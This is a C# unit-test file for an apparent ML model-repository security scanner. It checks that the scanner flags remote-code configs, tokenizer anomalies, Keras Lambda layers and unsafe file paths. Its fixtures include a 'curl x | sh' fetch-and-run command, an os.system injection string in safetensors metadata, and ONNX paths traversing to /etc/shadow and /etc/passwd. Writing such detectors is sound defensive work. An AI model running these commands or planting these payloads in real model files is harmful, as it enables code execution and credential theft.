using Obliviate.Tests;
using System.Text;
using Obliviate.Reports.Model;
using Obliviate.Tests.Fixtures;

namespace Obliviate.Scanner.Tests.Analyzers;

public sealed class RepositoryAnalyzersTests
{
    private static ScanReport Scan(TempFolder dir) => ModelFileScanner.Scan(dir.Path, new ScanOptions(), CancellationToken.None);

    private static FileResult File(ScanReport r, string path) => Assert.Single(r.Files, f => f.Path == path);

    [Fact]
    public void Auto_map_and_trust_remote_code_are_reported()
    {
        using var dir = new TempFolder();
        dir.Write("config.json", """{"model_type":"x","auto_map":{"AutoModel":"modeling_x.XModel","AutoConfig":["configuration_x.XConfig", null]},"trust_remote_code":true}""");
        dir.Write("remote/config.json", """{"auto_map":{"AutoModel":"evil/repo--modeling.Model"}}""");
        var r = Scan(dir);
        var local = File(r, "config.json");
        Assert.Equal(Verdict.Suspicious, local.Verdict);
        Assert.Contains(local.Findings, f => f.RuleId == "OBL030" && f.Evidence == "auto_map.AutoModel = modeling_x.XModel");
        Assert.Contains(local.Findings, f => f.RuleId == "OBL030" && f.Evidence == "auto_map.AutoConfig = configuration_x.XConfig");
        Assert.Contains(local.Findings, f => f.RuleId == "OBL031");
        var remote = File(r, "remote/config.json");
        Assert.Equal(Verdict.Dangerous, remote.Verdict);
        Assert.Equal("OBL032", Assert.Single(remote.Findings).RuleId);
    }

    [Fact]
    public void Stock_config_is_clean()
    {
        using var dir = new TempFolder();
        dir.Write("config.json", """{"model_type":"bert","vocab_size":30522,"hidden_size":768}""");
        Assert.Equal(Verdict.Clean, File(Scan(dir), "config.json").Verdict);
    }

    [Fact]
    public void Python_code_is_custom_code_and_shell_calls_are_dangerous()
    {
        using var dir = new TempFolder();
        dir.Write("modeling_x.py", "import torch\nclass X(torch.nn.Module):\n    pass\n");
        dir.Write("evil.py", "import os\n# os.system('commented out')\nos.system('curl x | sh')\n");
        var r = Scan(dir);
        Assert.Equal(Verdict.Suspicious, File(r, "modeling_x.py").Verdict);
        var evil = File(r, "evil.py");
        Assert.Equal(Verdict.Dangerous, evil.Verdict);
        var call = Assert.Single(evil.Findings, f => f.RuleId == "OBL034");
        Assert.StartsWith("evil.py:3:", call.Evidence);
    }

    [Fact]
    public void Tokenizer_added_tokens_are_checked()
    {
        using var dir = new TempFolder();
        dir.Write("tokenizer.json", """
            {"added_tokens":[
              {"id":0,"content":"[PAD]","special":true},
              {"id":1,"content":"hello\u200bworld","special":false},
              {"id":2,"content":"cf","special":false},
              {"id":3,"content":"velvet","special":false},
              {"id":4,"content":"<extra_0>","special":false}],
             "model":{"type":"WordPiece","vocab":{"[PAD]":0,"a":1}}}
            """);
        var f = File(Scan(dir), "tokenizer.json");
        Assert.Equal(["OBL040", "OBL041", "OBL042"], f.Findings.Select(x => x.RuleId).Distinct().Order());
        Assert.Contains(f.Findings, x => x.RuleId == "OBL040" && x.Evidence!.Contains("\\u200B", StringComparison.Ordinal));
        Assert.Contains(f.Findings, x => x.RuleId == "OBL041" && x.Evidence == "added_tokens: velvet");
        Assert.DoesNotContain(f.Findings, x => x.Evidence!.Contains("extra_0", StringComparison.Ordinal));
    }

    [Fact]
    public void Tokenizer_beyond_embedding_rows_is_reported_on_config()
    {
        using var dir = new TempFolder();
        dir.Write("config.json", """{"vocab_size":10}""");
        dir.Write("model.safetensors", SafeTensorsBytes.Build(new Dictionary<string, long[]> { ["bert.embeddings.word_embeddings.weight"] = [8, 2] }));
        var vocab = string.Join(",", Enumerable.Range(0, 12).Select(i => $"\"t{i}\":{i}"));
        dir.Write("tokenizer.json", "{\"model\":{\"vocab\":{" + vocab + "}}}");
        var config = File(Scan(dir), "config.json");
        Assert.Equal(2, config.Findings.Count(f => f.RuleId == "OBL043"));
        Assert.Contains(config.Findings, f => f.Severity == Severity.Medium && f.Evidence == "tokenizer ids 12 > embedding rows 8");
    }

    [Fact]
    public void Ill_typed_repository_json_does_not_break_the_scan()
    {
        using var dir = new TempFolder();
        dir.Write("config.json", """{"vocab_size":"many","auto_map":[1,2],"trust_remote_code":"yes"}""");
        dir.Write("model.safetensors", SafeTensorsBytes.Build(new Dictionary<string, long[]> { ["embed_tokens.weight"] = [4, 2] }));
        dir.Write("tokenizer.json", """{"added_tokens":[{"id":"x","content":7},5],"model":{"vocab":{"a":"b","c":1.5}}}""");
        var r = Scan(dir);
        Assert.All(r.Files, f => Assert.Equal(Verdict.Clean, f.Verdict));
    }

    [Fact]
    public void Safetensors_metadata_code_is_suspicious_and_bad_headers_are_inconclusive()
    {
        using var dir = new TempFolder();
        dir.Write("a.safetensors", SafeTensorsBytes.Build(new Dictionary<string, long[]> { ["w"] = [2] }, new Dictionary<string, string> { ["note"] = "__import__('os').system('id')" }));
        dir.Write("b.safetensors", SafeTensorsBytes.Build(new Dictionary<string, long[]> { ["w"] = [2] }, new Dictionary<string, string> { ["format"] = "pt" }));
        var broken = SafeTensorsBytes.Build(new Dictionary<string, long[]> { ["w"] = [2] });
        dir.Write("c.safetensors", broken[..^4]);
        var r = Scan(dir);
        Assert.Equal("OBL020", Assert.Single(File(r, "a.safetensors").Findings).RuleId);
        Assert.Equal(Verdict.Clean, File(r, "b.safetensors").Verdict);
        Assert.Equal(Verdict.Inconclusive, File(r, "c.safetensors").Verdict);
    }

    [Fact]
    public void Onnx_external_data_escaping_the_folder_is_dangerous()
    {
        using var dir = new TempFolder();
        dir.Write("ok.onnx", OnnxBytes.Model("weights.bin"));
        dir.Write("evil.onnx", OnnxBytes.Model("weights.bin", subgraphLocation: "../../../etc/shadow"));
        dir.Write("abs.onnx", OnnxBytes.Model("/etc/passwd"));
        var r = Scan(dir);
        Assert.Equal(Verdict.Clean, File(r, "ok.onnx").Verdict);
        Assert.Equal("../../../etc/shadow", Assert.Single(File(r, "evil.onnx").Findings).Evidence);
        Assert.Equal(Verdict.Dangerous, File(r, "abs.onnx").Verdict);
    }

    [Fact]
    public void Keras_zip_with_lambda_layer_is_dangerous()
    {
        using var dir = new TempFolder();
        var config = """{"class_name":"Sequential","config":{"layers":[{"class_name":"Dense","config":{"name":"d"}},{"class_name":"Lambda","config":{"name":"sneaky","function":{"class_name":"__lambda__"}}}]}}""";
        dir.Write("model.keras", new ZipBuilder().Add("config.json", Encoding.UTF8.GetBytes(config)).Add("metadata.json", "{}"u8.ToArray()).ToArray());
        var f = File(Scan(dir), "model.keras");
        Assert.Equal("keras", f.Format);
        var lambda = Assert.Single(f.Findings);
        Assert.Equal(("OBL060", "Lambda sneaky"), (lambda.RuleId, lambda.Evidence));
    }

    [Fact]
    public void Keras_h5_model_config_is_read_with_purehdf()
    {
        using var dir = new TempFolder();
        var config = """{"class_name":"Functional","config":{"layers":[{"class_name":"Lambda","config":{"name":"lam"}}]}}""";
        var file = new PureHDF.H5File();
        file.Attributes["model_config"] = config;
        file.Attributes["keras_version"] = "2.15.0";
        using (var fs = System.IO.File.Create(Path.Combine(dir.Path, "model.h5"))) file.Write(fs);
        var weightsOnly = new PureHDF.H5File();
        weightsOnly.Attributes["backend"] = "tensorflow";
        using (var fs = System.IO.File.Create(Path.Combine(dir.Path, "weights.h5"))) weightsOnly.Write(fs);
        var r = Scan(dir);
        var model = File(r, "model.h5");
        Assert.Equal(("keras-h5", Verdict.Dangerous), (model.Format, model.Verdict));
        Assert.Equal("Lambda lam", Assert.Single(model.Findings).Evidence);
        Assert.Equal(Verdict.Clean, File(r, "weights.h5").Verdict);
    }
}
